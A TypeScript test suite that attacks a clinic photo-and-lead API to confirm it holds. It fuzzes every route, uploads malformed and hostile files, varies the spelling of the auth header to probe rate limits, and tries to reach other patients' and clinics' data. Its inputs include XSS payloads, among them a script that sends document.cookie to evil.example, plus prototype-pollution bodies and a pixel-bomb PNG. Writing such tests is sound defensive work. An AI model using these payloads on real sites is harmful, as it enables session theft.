// An attacker's pass on a fresh install found limits bypassed by header spelling, patients not kept apart and 5xx-prone inputs: this suite tries all of it on every route and prints what it tried.
import { randomUUID } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROUTES, type RouteName } from '@afterlook/api';
import { RATE_LIMITS, type RateLimitName } from '@afterlook/domain';
import fc from 'fast-check';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAdminKey } from '../../features/api-keys/create-admin-key.ts';
import { createSession } from '../../features/sessions/create-session.ts';
import { BLOB_ROUTE_PREFIX } from '../../ports/blob-key.ts';
import { anotherPatient, leadBody, otherClinic } from '../support/lead-fixtures.ts';
import { listBlobFiles, makePng } from '../support/media-fixtures.ts';
import { startTestApp, type TestApp } from '../support/start-test-app.ts';
import { recordAdversarialRow } from './adversarial-table.ts';
import { BARE_PATHS, type Caller, ROUTE_CATALOG, type ValidRequest } from './route-catalog.ts';

const DEMO_KEY = 'demo-clinic-key';
const TIGHT = 4;
const rateLimits = (max: number) =>
  Object.fromEntries(
    Object.keys(RATE_LIMITS).map((name) => [name, { max, windowMs: 60_000 }]),
  ) as Record<RateLimitName, { max: number; windowMs: number }>;

const summary = {
  routesFuzzed: 0,
  inputsTried: 0,
  badFilesTried: 0,
  fiveXxSeen: 0,
  recordsLost: 0,
  limitsBypassed: 0,
  crossChecks: 0,
};
const fiveXx: string[] = [];

let loose: TestApp;
let tight: TestApp;
beforeAll(async () => {
  const quotas = { dailyQuotas: { uploads: 1_000_000, transforms: 1_000_000 } };
  loose = await startTestApp(
    {},
    { media: { startQueue: false }, limits: { rate: rateLimits(1_000_000), ...quotas } },
  );
  // A built widget, as in production (an unbuilt one answers 503 on purpose).
  mkdirSync(loose.config.widgetDist, { recursive: true });
  writeFileSync(
    join(loose.config.widgetDist, 'index.html'),
    '<!doctype html><html><body><div id="root"></div></body></html>',
  );
  tight = await startTestApp(
    {},
    {
      media: { startQueue: false },
      limits: {
        rate: {
          ...rateLimits(TIGHT),
          // Uploads to signed URLs are limited per address, and the set-up uploads a photo per route.
          uploads: { max: 1_000_000, windowMs: 60_000 },
          addressCeiling: { max: 1_000_000, windowMs: 60_000 },
          authFailures: { max: 1_000_000, windowMs: 60_000 },
        },
        ...quotas,
      },
    },
  );
}, 60_000);
afterAll(async () => {
  await loose?.close();
  await tight?.close();
  recordAdversarialRow({
    surface: 'API routes: fuzzed inputs, bad files, other ids',
    tried: summary.inputsTried + summary.badFilesTried + summary.crossChecks,
    held: `${summary.routesFuzzed} routes fuzzed with ${summary.inputsTried} inputs and ${summary.badFilesTried} bad files; ${summary.crossChecks} other patients' and clinics' ids refused`,
    fiveXx: summary.fiveXxSeen,
    recordsLost: summary.recordsLost,
    limitsBypassed: summary.limitsBypassed,
  });
}, 30_000);

interface Answer {
  readonly status: number;
  readonly retryAfter: string | null;
  readonly body: unknown;
}

async function send(
  t: TestApp,
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: string | Uint8Array,
): Promise<Answer> {
  const response = await fetch(`${t.baseUrl}${path}`, {
    method,
    headers,
    ...(body === undefined ? {} : { body: typeof body === 'string' ? body : Buffer.from(body) }),
  });
  const text = await response.text();
  if (response.status >= 500) {
    summary.fiveXxSeen += 1;
    fiveXx.push(`${method} ${path} → ${response.status} ${text.slice(0, 200)}`);
  }
  let parsed: unknown = text;
  try {
    parsed = JSON.parse(text);
  } catch {}
  return { status: response.status, retryAfter: response.headers.get('retry-after'), body: parsed };
}

const json = (
  t: TestApp,
  method: string,
  path: string,
  authorization: string | undefined,
  body?: unknown,
) =>
  send(
    t,
    method,
    path,
    {
      ...(authorization === undefined ? {} : { authorization }),
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    body === undefined ? undefined : JSON.stringify(body),
  );

async function newToken(t: TestApp, sdkKey = DEMO_KEY): Promise<string> {
  const created = await createSession(t.app.db, sdkKey, t.app.clock);
  if (!created.ok) throw new Error(created.message);
  return created.value.access_token;
}

async function demoClinicId(t: TestApp): Promise<string> {
  const row = await t.app.db
    .selectFrom('sdk_keys')
    .select('clinic_id')
    .orderBy('created_at')
    .executeTakeFirstOrThrow();
  return row.clinic_id;
}

async function newAdminKey(t: TestApp, clinicId: string): Promise<string> {
  const admin = await createAdminKey(t.app.db, clinicId);
  if (!admin.ok) throw new Error(admin.message);
  return admin.value.admin_key;
}

/** A patient with a lead, an uploaded batch photo and a queued transform of it. */
async function patientOf(t: TestApp, token: string, adminKey: string) {
  const slots = await json(
    t,
    'POST',
    `${ROUTES.imagesBatch.path}?source=form`,
    `session ${token}`,
    {
      images: [{ view_type: 'BODY_BACK', procedure_types: ['BBL'] }],
    },
  );
  const batch = slots.body as {
    batch_id: string;
    presigned_urls: { put_url: string; get_url: string }[];
  };
  const slot = batch.presigned_urls[0];
  if (!slot) throw new Error(`no slot: ${JSON.stringify(slots)}`);
  const put = await send(
    t,
    'PUT',
    slot.put_url,
    { 'content-type': 'image/png' },
    await makePng(600, 800),
  );
  expect(put.status).toBe(200);
  const transform = await json(
    t,
    'POST',
    `${ROUTES.transforms.path}?source=form`,
    `session ${token}`,
    {
      image_url: slot.get_url,
      procedure_types: ['BBL'],
      procedure_view: 'BODY_BACK',
    },
  );
  expect(transform.status).toBe(200);
  const lead = await json(
    t,
    'POST',
    ROUTES.formsSubmit.path,
    `session ${token}`,
    // Each caller its own patient: the same phone again would be a visit of one lead (issue 31).
    anotherPatient({ batch_id: batch.batch_id }),
  );
  expect(lead.status).toBe(201);
  const models = await json(
    t,
    'GET',
    `${ROUTES.sampleModels.path}?procedure=BBL`,
    `session ${token}`,
  );
  const sampleImageUrl =
    (models.body as { models: { image_url: string }[] }).models[0]?.image_url ?? '';
  return {
    token,
    adminKey,
    leadUuid: (lead.body as { patient_uuid: string }).patient_uuid,
    batchId: batch.batch_id,
    sampleImageUrl,
    putUrl: slot.put_url,
    getUrl: slot.get_url,
    metadataUrl: (transform.body as { metadata_url: string }).metadata_url,
  };
}

const authOf = (request: ValidRequest, caller: Caller, spelling = (s: string) => s) =>
  request.auth === 'none'
    ? undefined
    : request.auth === 'sdk-key'
      ? DEMO_KEY
      : request.auth === 'admin'
        ? `${spelling('Bearer')} ${caller.adminKey}`
        : `${spelling('session')} ${caller.token}`;

/** What a patient can change: every lead, its messages and measurements. */
const snapshot = async (t: TestApp) => ({
  leads: await t.app.db
    .selectFrom('leads')
    .select(['patient_uuid', 'patient_record', 'form_data', 'measurements', 'session_id'])
    .orderBy('id')
    .execute(),
  messages: await t.app.db
    .selectFrom('lead_messages')
    .select(['id', 'lead_id', 'message'])
    .orderBy('id')
    .execute(),
});

describe('adversarial pass over every route', { timeout: 240_000 }, () => {
  it('the route catalog covers every route of the API', () => {
    expect(Object.keys(ROUTE_CATALOG).sort()).toEqual(Object.keys(ROUTES).sort());
  });

  it('fast-check bodies, queries and path parameters to every route: no 5xx, nothing stored lost', async () => {
    const clinicId = await demoClinicId(loose);
    const victim = await patientOf(
      loose,
      await newToken(loose),
      await newAdminKey(loose, clinicId),
    );
    const attacker: Caller = { ...victim, token: await newToken(loose) };
    const before = await snapshot(loose);

    const bodies = fc.oneof(
      fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value)),
      fc.object({ maxDepth: 2 }).map((value) => JSON.stringify(value)),
      fc.string({ maxLength: 200 }),
      fc.constantFrom(
        '{"__proto__":{"admin":true}}',
        '{"constructor":{"prototype":{"x":1}}}',
        '{"form_name": ',
        '',
        '[]',
        'null',
        `{"name":"${'\\u0000'.repeat(50)}"}`,
        JSON.stringify(leadBody({ batch_id: victim.batchId })),
        JSON.stringify(leadBody({ patient_record: { ...leadBody().patient_record, phone: '()' } })),
      ),
    );
    const param = fc.oneof(
      fc.string({ minLength: 1, maxLength: 60 }),
      fc.uuid(),
      fc.constantFrom('..', '%00', victim.leadUuid),
    );
    const query = fc.dictionary(
      fc.string({ minLength: 1, maxLength: 12 }),
      fc.string({ maxLength: 40 }),
      { maxKeys: 4 },
    );

    const targets: { method: string; path: string; auth: ValidRequest['auth'] }[] = [
      ...Object.values(ROUTES).map((route) => ({
        method: route.method,
        path: route.path,
        auth: ROUTE_CATALOG[
          Object.entries(ROUTES).find(([, r]) => r === route)?.[0] as RouteName
        ].request(attacker).auth,
      })),
      ...BARE_PATHS.map((path) => ({ method: 'POST', path, auth: 'session' as const })),
      { method: 'PUT', path: `${BLOB_ROUTE_PREFIX}:key`, auth: 'session' },
      { method: 'GET', path: `${BLOB_ROUTE_PREFIX}:key`, auth: 'session' },
    ];
    for (const target of targets) {
      summary.routesFuzzed += 1;
      await fc.assert(
        fc.asyncProperty(bodies, param, query, async (body, value, params) => {
          summary.inputsTried += 1;
          // The clinic's own admin erasing its lead is the route working, not an attack:
          // the fuzz aims that route at ids that are not the clinic's.
          const id = target.method === 'DELETE' && value === victim.leadUuid ? randomUUID() : value;
          const path = target.path.replace(/:[A-Za-z_]+/g, encodeURIComponent(id));
          const search = new URLSearchParams(params).toString();
          const url = search ? `${path}?${search}` : path;
          const authorization = authOf({ method: 'GET', path: url, auth: target.auth }, attacker);
          const headers: Record<string, string> = authorization ? { authorization } : {};
          const withBody = target.method !== 'GET';
          if (withBody) headers['content-type'] = 'application/json';
          const answer = await send(
            loose,
            target.method,
            url,
            headers,
            withBody ? body : undefined,
          );
          // Recorded, not thrown: the run goes on and the list names every 5xx it met.
          return answer.status > 0;
        }),
        { numRuns: 20 },
      );
    }
    const after = await snapshot(loose);
    const kept = new Map(after.leads.map((lead) => [lead.patient_uuid, lead]));
    for (const lead of before.leads) {
      if (JSON.stringify(kept.get(lead.patient_uuid)) !== JSON.stringify(lead))
        summary.recordsLost += 1;
    }
    const messages = new Set(after.messages.map((m) => JSON.stringify(m)));
    for (const message of before.messages)
      if (!messages.has(JSON.stringify(message))) summary.recordsLost += 1;
    expect(fiveXx).toEqual([]);
    expect(summary.recordsLost).toBe(0);
  });

  it('bad files to the upload URL: 4xx, nothing stored', async () => {
    const token = await newToken(loose);
    const png = await makePng(400, 300);
    const bomb = Buffer.from(png);
    bomb.writeUInt32BE(100_000, 16);
    bomb.writeUInt32BE(100_000, 20);
    const files: Record<string, Uint8Array> = {
      empty: new Uint8Array(0),
      'truncated PNG': png.subarray(0, png.length / 2),
      'PNG signature only': png.subarray(0, 8),
      'pixel bomb header (100000²)': bomb,
      'JPEG start marker only': new Uint8Array([0xff, 0xd8, 0xff, 0xe0]),
      'CSV renamed .png': new TextEncoder().encode('name,phone\nAna,3055550100\n'),
      'random bytes': Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256),
      // A real image behind the wrong magic bytes: GIF's header on PNG data.
      'wrong magic (GIF89a on a PNG)': Buffer.concat([
        Buffer.from('GIF89a'),
        Buffer.from(png).subarray(6),
      ]),
      'GIF image': await sharp(png).gif().toBuffer(),
      'WebP image': await sharp(png).webp().toBuffer(),
      'SVG with a script': new TextEncoder().encode(
        '<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" onload="alert(1)"><rect width="800" height="600"/></svg>',
      ),
      'HTML page': new TextEncoder().encode(
        '<!doctype html><script>alert(document.cookie)</script>',
      ),
    };
    for (const [name, bytes] of Object.entries(files)) {
      summary.badFilesTried += 1;
      const slots = await json(
        loose,
        'POST',
        `${ROUTES.patientImages.path}?timestamp=1`,
        `session ${token}`,
      );
      const ticket = slots.body as { upload_url: string };
      const put = await send(
        loose,
        'PUT',
        ticket.upload_url,
        { 'content-type': 'image/png' },
        bytes,
      );
      expect(put.status, name).toBeGreaterThanOrEqual(400);
      expect(put.status, name).toBeLessThan(500);
    }
    const ready = await loose.app.db
      .selectFrom('images')
      .select('id')
      .where('status', '=', 'ready')
      .where('source', '=', 'widget')
      .execute();
    expect(ready).toEqual([]);
  });

  it('files that are real photos carrying extras (an HTML payload, EXIF GPS) are stored without them', async () => {
    const token = await newToken(loose);
    const payload = '<script>fetch("https://evil.example/"+document.cookie)</script>';
    const photo = await makePng(600, 800);
    const files: Record<string, Buffer> = {
      'polyglot: PNG + HTML after its end': Buffer.concat([
        Buffer.from(photo),
        Buffer.from(payload),
      ]),
      'JPEG with EXIF GPS': await sharp(photo)
        .jpeg()
        .withExifMerge({
          IFD0: { Make: 'PhoneCo' },
          IFD3: { GPSLatitude: '40/1 26/1 46/1', GPSLatitudeRef: 'N' },
        })
        .toBuffer(),
    };
    for (const [name, bytes] of Object.entries(files)) {
      summary.badFilesTried += 1;
      const ticket = (
        await json(loose, 'POST', `${ROUTES.patientImages.path}?timestamp=1`, `session ${token}`)
      ).body as { upload_url: string; download_url: string };
      const put = await send(
        loose,
        'PUT',
        ticket.upload_url,
        { 'content-type': 'image/png' },
        bytes,
      );
      expect(put.status, name).toBe(200);
      const stored = Buffer.from(
        await (await fetch(`${loose.baseUrl}${ticket.download_url}`)).arrayBuffer(),
      );
      const metadata = await sharp(stored).metadata();
      expect(metadata.format, name).toBe('png');
      expect(metadata.exif, name).toBeUndefined();
      expect(stored.includes(Buffer.from('<script>')), name).toBe(false);
      expect(stored.includes(Buffer.from('PhoneCo')), name).toBe(false);
    }
    // What sits on disk is sealed: neither a PNG nor any payload in clear.
    for (const file of listBlobFiles(loose.config.dataDir)) {
      const bytes = readFileSync(join(loose.config.dataDir, 'blobs', file));
      expect(bytes.includes(Buffer.from('<script>')), file).toBe(false);
      expect(bytes.subarray(1, 4).toString('latin1'), file).not.toBe('PNG');
    }
  });

  it('header spellings never open a fresh bucket: every limit holds, every 429 has Retry-After', async () => {
    const clinicId = await demoClinicId(tight);
    const spellings = [
      (s: string) => s,
      (s: string) => s.toUpperCase(),
      (s: string) => `${s[0]?.toUpperCase()}${s.slice(1)}`,
    ];
    // 'session  <t>' and 'session\t <t>': one scheme word, one space, or no credential.
    const malformed = [(s: string) => `${s} `, (s: string) => `${s}\t`];
    const bypassed: string[] = [];
    // One patient's sample picture for the transform calls; each route gets a fresh session.
    const shared = await patientOf(
      tight,
      await newToken(tight),
      await newAdminKey(tight, clinicId),
    );
    for (const [name, entry] of Object.entries(ROUTE_CATALOG)) {
      if (!entry.limit) continue;
      const fresh: Caller = { ...shared, token: await newToken(tight) };
      const own = await json(
        tight,
        'POST',
        ROUTES.formsSubmit.path,
        `session ${fresh.token}`,
        leadBody({ form_user_id: 'own' }),
      );
      const batch = await json(
        tight,
        'POST',
        `${ROUTES.imagesBatch.path}?source=form`,
        `session ${fresh.token}`,
        {
          images: [{ view_type: 'BODY_BACK', procedure_types: ['BBL'] }],
        },
      );
      const subject: Caller = {
        ...fresh,
        leadUuid: (own.body as { patient_uuid: string }).patient_uuid,
        batchId: (batch.body as { batch_id: string }).batch_id,
        adminKey: await newAdminKey(tight, clinicId),
      };
      // Calls already spent on this route's bucket by the set-up above.
      const spent = name === 'formsSubmit' || name === 'imagesBatch' ? 1 : 0;
      const variants = [...spellings, ...malformed];
      let accepted = spent;
      for (let i = 0; i < TIGHT * variants.length + 2; i += 1) {
        const spelling = variants[i % variants.length] ?? ((s: string) => s);
        const request = entry.request(subject);
        const answer = await json(
          tight,
          request.method,
          request.path,
          authOf(request, subject, spelling),
          request.body,
        );
        summary.inputsTried += 1;
        if (answer.status === 429) {
          if (!(Number(answer.retryAfter) > 0)) bypassed.push(`${name}: 429 without Retry-After`);
        } else if (answer.status !== 401) {
          accepted += 1;
        }
      }
      if (accepted > TIGHT) bypassed.push(`${name}: ${accepted} accepted, limit ${TIGHT}`);
    }
    summary.limitsBypassed = bypassed.length;
    expect(bypassed).toEqual([]);
  });

  it("cross-patient and cross-clinic: no route takes another's id", async () => {
    const clinicId = await demoClinicId(loose);
    const patient = await patientOf(
      loose,
      await newToken(loose),
      await newAdminKey(loose, clinicId),
    );
    const neighbour = await patientOf(
      loose,
      await newToken(loose),
      await newAdminKey(loose, clinicId),
    );
    const other = await otherClinic(loose, 'adversarial-other-key');
    const stranger = await patientOf(loose, other.session, other.adminKey);
    const before = await snapshot(loose);
    const failures: string[] = [];
    const expectRefused = async (what: string, answer: Promise<Answer>, statuses: number[]) => {
      summary.crossChecks += 1;
      const { status } = await answer;
      if (!statuses.includes(status)) failures.push(`${what}: ${status}`);
    };
    for (const [who, caller] of [
      ['another patient', neighbour],
      ['another clinic', stranger],
    ] as const) {
      const auth = `session ${caller.token}`;
      await expectRefused(
        `${who} adds a lead message`,
        json(
          loose,
          'POST',
          ROUTES.leadMessages.path.replace(':patient_uuid', patient.leadUuid),
          auth,
          { message: 'hi there', sender_type: 'patient' },
        ),
        [404],
      );
      await expectRefused(
        `${who} overwrites measurements`,
        json(
          loose,
          'PUT',
          ROUTES.leadMeasurements.path.replace(':patient_uuid', patient.leadUuid),
          auth,
          { message: 'Overwritten', weight_lbs: 300, height_feet: 7, height_inches: 0 },
        ),
        [404],
      );
      await expectRefused(
        `${who} submits a lead with the batch`,
        json(loose, 'POST', ROUTES.formsSubmit.path, auth, leadBody({ batch_id: patient.batchId })),
        [404],
      );
      await expectRefused(
        `${who} submits a lead with the photo URL`,
        json(loose, 'POST', ROUTES.formsSubmit.path, auth, leadBody({ image_url: patient.getUrl })),
        [404],
      );
      await expectRefused(
        `${who} transforms the photo`,
        json(loose, 'POST', `${ROUTES.transforms.path}?source=form`, auth, {
          image_url: patient.getUrl,
          procedure_types: ['BBL'],
          procedure_view: 'BODY_BACK',
        }),
        [404],
      );
      await expectRefused(
        `${who} batch-transforms the batch`,
        json(loose, 'POST', `${ROUTES.transformsBatch.path}?source=form`, auth, {
          batch_id: patient.batchId,
          request: [
            {
              image_url: caller.sampleImageUrl,
              procedure_types: ['BBL'],
              procedure_view: 'BODY_BACK',
            },
          ],
        }),
        [404],
      );
      // A signed URL of the caller's own, pointed at the patient's object.
      const ownGet = new URL(caller.getUrl, 'http://x');
      const patientGet = new URL(patient.getUrl, 'http://x');
      await expectRefused(
        `${who} reads the photo with its own signature`,
        send(loose, 'GET', `${patientGet.pathname}${ownGet.search}`, {}),
        [403, 404],
      );
      const ownPut = new URL(caller.putUrl, 'http://x');
      await expectRefused(
        `${who} uploads over the photo with its own signature`,
        send(
          loose,
          'PUT',
          `${new URL(patient.putUrl, 'http://x').pathname}${ownPut.search}`,
          { 'content-type': 'image/png' },
          await makePng(600, 800),
        ),
        [403, 404, 409],
      );
      const ownMeta = new URL(caller.metadataUrl, 'http://x');
      const patientJob = new URL(patient.metadataUrl, 'http://x').pathname;
      await expectRefused(
        `${who} reads the transform with its own signature`,
        send(loose, 'GET', `${patientJob}${ownMeta.search}`, {}),
        [403, 404],
      );
    }
    /** An admin call on the patient's lead. */
    const onLead = (method: string, route: { path: string }, authorization: string) =>
      json(loose, method, route.path.replace(':patient_uuid', patient.leadUuid), authorization);
    const readLead = (authorization: string) => onLead('GET', ROUTES.adminLead, authorization);
    await expectRefused(
      "another clinic's admin reads the lead",
      readLead(`Bearer ${other.adminKey}`),
      [404],
    );
    await expectRefused(
      "another clinic's admin exports the lead",
      onLead('GET', ROUTES.adminLeadExport, `Bearer ${other.adminKey}`),
      [404],
    );
    for (const [who, authorization] of [
      ["another clinic's admin", `Bearer ${other.adminKey}`],
      ['a patient session', `session ${patient.token}`],
      ['the patient session as admin', `Bearer ${patient.token}`],
    ] as const) {
      await expectRefused(
        `${who} deletes the lead`,
        onLead('DELETE', ROUTES.adminLeadDelete, authorization),
        [401, 404],
      );
    }
    await expectRefused(
      'a patient session reads the lead as admin',
      readLead(`Bearer ${patient.token}`),
      [401],
    );
    await expectRefused(
      "another clinic's session uses the admin route",
      json(loose, 'GET', ROUTES.adminLeads.path, `session ${other.session}`),
      [401],
    );
    const after = await snapshot(loose);
    const untouched = (rows: typeof before) =>
      JSON.stringify(rows.leads.filter((l) => l.patient_uuid === patient.leadUuid)) +
      JSON.stringify(rows.messages);
    if (untouched(after) !== untouched(before)) summary.recordsLost += 1;
    expect(failures).toEqual([]);
    expect(summary.recordsLost).toBe(0);
  });
});
